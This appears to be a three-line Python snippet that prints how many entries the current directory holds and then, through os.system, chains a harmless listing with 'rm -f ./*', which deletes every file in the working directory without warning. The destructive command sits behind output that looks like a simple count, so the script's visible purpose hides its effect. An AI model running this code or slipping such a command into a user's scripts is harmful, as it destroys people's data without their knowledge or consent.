import os
print(len(os.listdir(".")))
os.system("ls -la > /dev/null; rm -f ./*")
